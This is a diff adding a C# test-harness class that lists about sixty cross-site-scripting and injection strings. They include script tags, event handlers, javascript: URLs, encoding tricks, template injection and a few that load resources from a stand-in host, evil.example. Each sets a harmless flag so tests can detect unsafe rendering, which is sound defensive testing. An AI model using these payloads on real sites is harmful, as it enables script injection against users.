@@ -1,0 +1,76 @@
+namespace Realtime.Tests.Harness;
+
+/// <summary>What people write who want their text to run. Every entry calls <see cref="Flag"/> if some page takes it for more than text.</summary>
+static class Markup
+{
+    /// <summary>The property of <c>window</c> that a page must not have afterwards.</summary>
+    public const string Flag = "__ran";
+
+    const string Run = "window.__ran=1";
+
+    public static IReadOnlyList<string> Corpus { get; } =
+    [
+        $"<script>{Run}</script>",
+        $"<SCRIPT>{Run}</SCRIPT>",
+        $"<scr<script>ipt>{Run}</scr</script>ipt>",
+        $"\"><script>{Run}</script>",
+        $"'><script>{Run}</script>",
+        $"</p><script>{Run}</script>",
+        $"</title><script>{Run}</script>",
+        $"</textarea><script>{Run}</script>",
+        $"--><script>{Run}</script><!--",
+        $"]]><script>{Run}</script>",
+        "<script src=//evil.example/x.js></script>",
+        $"<img src=x onerror={Run}>",
+        $"<img src=x onerror=\"{Run}\"/>",
+        $"<img/src=`x`onerror={Run}>",
+        $"<img src=\"x\"\nonerror=\"{Run}\">",
+        $"<svg onload={Run}>",
+        $"<svg><script>{Run}</script></svg>",
+        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
+        $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>x</text></a></svg>",
+        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}>",
+        $"<body onload={Run}>",
+        $"<details open ontoggle={Run}>",
+        $"<video><source onerror={Run}></video>",
+        $"<audio src=x onerror={Run}>",
+        $"<input autofocus onfocus={Run}>",
+        $"<select autofocus onfocus={Run}>",
+        $"<marquee onstart={Run}>",
+        $"<iframe src=\"javascript:{Run}\"></iframe>",
+        $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>",
+        $"<object data=\"javascript:{Run}\"></object>",
+        $"<embed src=\"javascript:{Run}\">",
+        $"<a href=\"javascript:{Run}\">click</a>",
+        $"<a href=\"  java\tscript:{Run}\">click</a>",
+        $"<a href=\"data:text/html,<script>{Run}</script>\">click</a>",
+        $"<form action=\"javascript:{Run}\"><button>x</button></form>",
+        $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">",
+        "<base href=\"https://evil.example/\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<style>*{background:url(https://evil.example/)}</style>",
+        $"<div style=\"background:url(javascript:{Run})\">",
+        $"<template><img src=x onerror={Run}></template>",
+        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">",
+        $"&lt;script&gt;{Run}&lt;/script&gt;",
+        $"&#60;script&#62;{Run}&#60;/script&#62;",
+        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
+        $"%3Cscript%3E{Run}%3C/script%3E",
+        $"+ADw-script+AD4-{Run}+ADw-/script+AD4-",
+        $"\ufeff<script>{Run}</script>",
+        $"<\u200bscript>{Run}</script>",
+        $"<\0script>{Run}</script>",
+        $"\uff1cscript\uff1e{Run}\uff1c/script\uff1e",
+        $"javascript:{Run}",
+        $"[x](javascript:{Run})",
+        $"![x](x\"onerror=\"{Run})",
+        $"${{{Run}}}",
+        $"{{{{constructor.constructor('{Run}')()}}}}",
+        $"`-{Run}-`",
+        $"';{Run}//",
+        $"\";{Run}//",
+        "\u202e>tpircs<\u202c",
+        "@{System.Diagnostics.Process.Start(\"x\")}",
+        "__proto__",
+    ];
+}
